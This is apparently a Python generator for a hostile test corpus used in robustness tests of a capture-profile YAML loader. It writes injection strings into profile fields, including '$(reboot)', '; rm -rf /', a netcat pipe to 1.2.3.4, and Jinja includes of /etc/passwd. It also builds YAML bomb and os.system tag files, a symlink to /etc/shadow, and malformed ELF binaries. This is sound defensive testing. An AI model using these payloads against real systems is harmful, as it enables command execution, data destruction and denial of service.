"""Generator of the hostile profile corpus (issue 8, item 6): files the loader must survive.

`python tests/unit/hostile/make_corpus.py` rewrites the committed, small *.yaml files beside it.
Big, binary or special files (FIFO, sockets, devices, 2 MiB files, crafted ELF programs) are made
at test time by `special_files(dir)` and `elf_files(dir)`, never committed.

Every file here must fail or load cleanly: never a traceback, never a hang.
"""
from __future__ import annotations

import os
import socket
import stat
import struct
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
LIBC = "/lib/x86_64-linux-gnu/libc.so.6"

BASE = """\
apiVersion: ecapture/v1
kind: CaptureProfile
metadata:
  name: {name}
  labels: {{note: {label}}}
spec:
  targets:
    - name: {target}
      kind: uprobe
      binary: {binary}
      library: {library}
      symbol: {symbol}
      args: [{{index: 0, name: {arg}, type: int}}]
      filters: {{comm: [{comm}], pids: [{pid}], uids: [{uid}]}}
      max_bytes: {max_bytes}
      ring_buffer_kib: {rb}
    - name: net
      kind: socket
      filters: {{ports: [{port}]}}
  sinks:
    - type: jsonl
      path: {sink}
"""
DEFAULTS = dict(name="demo", label="x", target="t", binary=LIBC, library=LIBC, symbol="getaddrinfo",
                arg="fd", comm="curl", pid="1", uid="0", port="443", max_bytes="1024", rb="8", sink="/tmp/h.jsonl")

INJECTIONS = {
    "c_code": '"x\\"); } int evil() { return 0; } /*"',
    "c_comment": '"*/ #include </etc/shadow> /*"',
    "jinja_expr": '"{{ 7*7 }}"',
    "jinja_stmt": "\"{% include '/etc/passwd' %}\"",
    "jinja_plain": "'{{config}}'",
    "shell_subst": '"$(reboot)"',
    "shell_backtick": '"`id`"',
    "shell_chain": '"; rm -rf / #"',
    "shell_pipe": '"| nc 1.2.3.4 9 &"',
    "quotes": "'\"''\"'",
    "backslashes": '"\\\\x00\\\\n\\\\\\\\"',
    "newline": '"ok\\nint x;"',
    "percent": '"%s%n%x"',
}
FIELDS = ("name", "target", "comm", "symbol", "binary", "library", "sink", "arg", "label")

NUMBERS = {
    "negative": "-1", "two_31": str(2**31), "two_32": str(2**32), "two_64": str(2**64), "two_64_neg": str(-2**64),
    "digits_5000": "9" * 5000, "float": "1.5", "exp": "1e3", "inf": ".inf", "nan": ".nan", "hex": "0x400",
    "octal": "0o2000", "binary": "0b10000000000", "leading_zero": "01024", "sexagesimal": "1:20",
    "plus": "+1024", "underscore": "1_024", "null": "~", "bool": "true", "string": "'1024'",
}
NUMBER_FIELDS = ("max_bytes", "port", "pid", "uid", "rb")


def profile(**over) -> str:
    return BASE.format(**{**DEFAULTS, **over})


def yaml_hazards() -> dict[str, bytes]:
    ok = profile()
    laughs = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    laughs += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return {
        "billion_laughs": ("\n".join(laughs) + "\n").encode(),
        "billion_laughs_in_labels": ok.replace("  labels: {note: x}\n", "  labels: &l {a: *l}\n").encode(),
        "recursive_alias": b"a: &a [*a]\n",
        "recursive_alias_map": ok.replace("    - name: t\n", "    - &t\n      name: t\n      self: *t\n").encode(),
        "undefined_alias": ok.replace("name: demo", "name: *nope").encode(),
        "merge_key": ok.replace("  sinks:", "  <<: {sinks: []}\n  sinks:").encode(),
        "tag_python_object": ok.replace("name: demo", "name: !!python/object/apply:os.system ['id']").encode(),
        "tag_python_name": ok.replace("name: demo", "name: !!python/name:os.system").encode(),
        "tag_custom": ok.replace("name: demo", "name: !foo demo").encode(),
        "tag_binary": ok.replace("binary: " + LIBC, "binary: !!binary L2Jpbi90cnVl").encode(),
        "tag_timestamp": ok.replace("name: demo", "name: !!timestamp 2024-01-01").encode(),
        "tag_set": ok.replace("labels: {note: x}", "labels: !!set {a, b}").encode(),
        "tag_verbatim": ok.replace("name: demo", "name: !<tag:example.com,2000:x> demo").encode(),
        "duplicate_keys": ok.replace("  name: demo\n", "  name: demo\n  name: other\n").encode(),
        "duplicate_keys_quoted": ok.replace("  name: demo\n", "  name: demo\n  \"name\": other\n").encode(),
        "complex_key": ok.replace("  name: demo\n", "  name: demo\n  ? [a, b]\n  : c\n").encode(),
        "multiple_documents": (ok + "---\n" + ok).encode(),
        "document_end_then_garbage": (ok + "...\n%YAML 1.1\n---\n" + ok).encode(),
        "yaml_directive_1_1": ("%YAML 1.1\n---\n" + ok).encode(),
        "empty": b"",
        "only_comments": b"# nothing here\n# at all\n",
        "only_whitespace": b"   \n\n\t\n",
        "bom": b"\xef\xbb\xbf" + ok.encode(),
        "tabs_indent": ok.replace("    - name: t", "\t- name: t").encode(),
        "crlf": ok.replace("\n", "\r\n").encode(),
        "cr_only": ok.replace("\n", "\r").encode(),
        "nul_byte": ok.replace("name: demo", "name: de\x00mo").encode(),
        "bel_byte": ok.replace("name: demo", "name: de\x07mo").encode(),
        "esc_byte": ok.replace("name: demo", "name: \x1b[31mdemo").encode(),
        "del_byte": ok.replace("name: demo", "name: demo\x7f").encode(),
        "escaped_controls": ok.replace("note: x", 'note: "\\e]0;pwned\\a\\0\\x7f"').encode(),
        "invalid_utf8": ok.encode().replace(b"name: demo", b"name: d\xc3\x28mo"),
        "lone_surrogate": ok.encode().replace(b"name: demo", b"name: d\xed\xa0\x80mo"),
        "utf16_le": ok.encode("utf-16"),
        "utf16_be": b"\xfe\xff" + ok.encode("utf-16-be"),
        "utf32": ok.encode("utf-32"),
        "nesting_500_flow": b"a: " + b"[" * 500 + b"]" * 500 + b"\n",
        "nesting_500_map": b"a: " + b"{a: " * 500 + b"1" + b"}" * 500 + b"\n",
        "nesting_100_block": ("a:\n" + "".join("  " * i + "- \n" for i in range(1, 100))).encode(),
        "unclosed_flow": b"a: [1, 2\n",
        "unclosed_quote": b'a: "abc\n',
        "bad_indent": ok.replace("      kind: uprobe", "     kind: uprobe").encode(),
        "scalar_document": b"just a string\n",
        "list_document": b"- 1\n- 2\n",
        "null_document": b"~\n",
        "long_line": ("a: " + "x" * 10000 + "\n").encode(),
        "many_keys": "".join(f"k{i}: {i}\n" for i in range(1000)).encode(),
        "anchor_on_key": ok.replace("  name: demo\n", "  &k name: demo\n").encode(),
        "alias_as_key": ok.replace("  labels: {note: x}\n", "  labels: {&k note: x, *k : y}\n").encode(),
        "date_in_label": ok.replace("note: x", "note: 2024-01-01").encode(),
        "bool_words": ok.replace("note: x", "note: yes").replace("kind: uprobe", "kind: uprobe\n      on: on").encode(),
    }


def corpus() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for field in FIELDS:
        for label, payload in INJECTIONS.items():
            files[f"inj_{field}_{label}"] = profile(**{field: payload}).encode()
    for field in NUMBER_FIELDS:
        for label, written in NUMBERS.items():
            files[f"num_{field}_{label}"] = profile(**{field: written}).encode()
    for label, data in yaml_hazards().items():
        files[f"yaml_{label}"] = data
    return files


def write_corpus(directory: Path = HERE) -> int:
    for old in directory.glob("*.yaml"):
        old.unlink()
    files = corpus()
    for name, data in files.items():
        (directory / f"{name}.yaml").write_bytes(data)
    return len(files)


# ------------------------------------------------------------------ made at test time

def special_files(d: Path) -> dict[str, Path]:
    """Odd file types and big files, as profile paths."""
    out = {}
    out["fifo"] = d / "fifo.yaml"
    os.mkfifo(out["fifo"])
    out["directory"] = d / "dir.yaml"
    out["directory"].mkdir()
    out["dev_zero"] = Path("/dev/zero")
    if os.geteuid() == 0:
        out["char_device"] = d / "zero.yaml"
        os.mknod(out["char_device"], 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    out["symlink_shadow"] = d / "shadow.yaml"
    out["symlink_shadow"].symlink_to("/etc/shadow")
    out["symlink_dangling"] = d / "dangling.yaml"
    out["symlink_dangling"].symlink_to(d / "nowhere")
    out["socket"] = d / "sock.yaml"
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(out["socket"]))
    except OSError:          # path too long for sun_path: skip the socket case
        del out["socket"]
    finally:
        sock.close()
    out["huge_2mib"] = d / "huge.yaml"
    out["huge_2mib"].write_bytes(profile().encode() + b"#" * (2 << 20))
    out["sparse_huge"] = d / "sparse.yaml"
    with open(out["sparse_huge"], "wb") as f:
        f.truncate(1 << 30)
    out["huge_valid_list"] = d / "list.yaml"
    out["huge_valid_list"].write_bytes(b"a: [" + b"1," * 500_000 + b"1]\n")
    return out


ELF_HEADER = struct.Struct("<16sHHIQQQIHHHHHH")
SECTION = struct.Struct("<IIQQQQIIQQ")
SYMBOL = struct.Struct("<IBBHQQ")
SHT_SYMTAB, SHT_STRTAB, SHT_DYNSYM = 2, 3, 11


def elf(sections, *, shnum=None, shentsize=64, shstrndx=1, pad_to=0, data=b"") -> bytes:
    """An ELF64 little-endian x86-64 executable: header, `data` at offset 64, then section headers.
    `sections` are tuples (name, type, offset, size, link, entsize)."""
    shoff = 64 + len(data)
    shoff += -shoff % 8
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ELF_HEADER.pack(ident, 2, 62, 1, 0, 0, shoff, 0, 64, 56, 0, shentsize,
                             len(sections) if shnum is None else shnum, shstrndx)
    body = header + data
    body += bytes(shoff - len(body))
    for name, typ, off, size, link, entsize in sections:
        body += SECTION.pack(name, typ, 0, 0, off, size, link, 0, 1, entsize)
    return body + bytes(max(0, pad_to - len(body)))


def valid_elf(symbol: str = "foo") -> bytes:
    """A tiny ELF with one defined function symbol (checks the builder itself)."""
    shstr = b"\0.shstrtab\0.strtab\0.symtab\0"
    strtab = b"\0" + symbol.encode() + b"\0"
    syms = SYMBOL.pack(0, 0, 0, 0, 0, 0) + SYMBOL.pack(1, 0x12, 0, 1, 0x1000, 16)
    data = shstr + strtab + bytes(-(len(shstr) + len(strtab)) % 8) + syms
    o_shstr, o_str = 64, 64 + len(shstr)
    o_sym = 64 + len(data) - len(syms)
    return elf([(0, 0, 0, 0, 0, 0), (1, SHT_STRTAB, o_shstr, len(shstr), 0, 0),
                (11, SHT_STRTAB, o_str, len(strtab), 0, 0), (19, SHT_SYMTAB, o_sym, len(syms), 2, 24)], data=data)


def elf_files(d: Path) -> dict[str, Path]:
    """Crafted ELF programs (sparse where they claim a lot), as paths for `binary:`."""
    shstr = b"\0.shstrtab\0.strtab\0.symtab\0"
    null, names = (0, 0, 0, 0, 0, 0), (1, SHT_STRTAB, 64, len(shstr), 0, 0)
    files: dict[str, bytes | tuple[bytes, int]] = {
        "valid": valid_elf(),
        # 36 KB claiming 5 M symbols (120 MB of symbol table)
        "claims_5m_symbols": elf([null, names, (11, SHT_STRTAB, 64, 1, 0, 0),
                                  (19, SHT_SYMTAB, 4096, 5_000_000 * 24, 2, 24)], data=shstr, pad_to=36 << 10),
        # 1 M sections by extended numbering (e_shnum = 0, count in section 0's sh_size)
        "claims_1m_sections": elf([(0, 0, 0, 1_000_000, 0, 0), names], shnum=0, data=shstr, pad_to=36 << 10),
        "claims_65535_sections": elf([null, names], shnum=65535, data=shstr),
        "section_past_eof": elf([null, names, (11, SHT_STRTAB, 1 << 40, 100, 0, 0)], data=shstr),
        "section_size_overflow": elf([null, names, (11, SHT_STRTAB, 64, (1 << 64) - 1, 0, 0)], data=shstr),
        "symtab_entsize_zero": elf([null, names, (11, SHT_STRTAB, 64, 1, 0, 0), (19, SHT_SYMTAB, 64, 24, 2, 0)],
                                   data=shstr),
        "symtab_link_missing": elf([null, names, (19, SHT_SYMTAB, 64, 24, 99, 24)], data=shstr),
        "shstrndx_out_of_range": elf([null, names], shstrndx=50, data=shstr),
        "shentsize_zero": elf([null, names], shentsize=0, data=shstr),
        "shoff_past_eof": valid_elf()[:ELF_HEADER.size + 8],
        "truncated": valid_elf()[:-40],
        "header_only": valid_elf()[:20],
        "not_elf": b"#!/bin/sh\necho not an ELF\n",
        "empty": b"",
        "elf32_garbage": b"\x7fELF\x01\x01\x01" + bytes(9) + b"\xff" * 100,
        "big_endian_garbage": b"\x7fELF\x02\x02\x01" + bytes(9) + b"\xff" * 100,
        # sparse, big enough that 3 M symbols fit: only the time cap stops it
        "sparse_3m_symbols": (elf([null, names, (11, SHT_STRTAB, 64, 1, 0, 0),
                                   (19, SHT_SYMTAB, 4096, 3_000_000 * 24, 2, 24)], data=shstr), 80 << 20),
    }
    out = {}
    for name, data in files.items():
        path = d / f"{name}.elf"
        size = 0
        if isinstance(data, tuple):
            data, size = data
        path.write_bytes(data)
        if size:
            os.truncate(path, size)
        os.chmod(path, 0o755)
        out[name] = path
    return out


def elf_profile(binary: Path, symbol: str = "foo") -> str:
    return f"""\
apiVersion: ecapture/v1
kind: CaptureProfile
metadata:
  name: elf
spec:
  targets:
    - name: fn
      kind: uprobe
      binary: {binary}
      symbol: {symbol}
"""


if __name__ == "__main__":
    print(f"wrote {write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)} files to {HERE}")
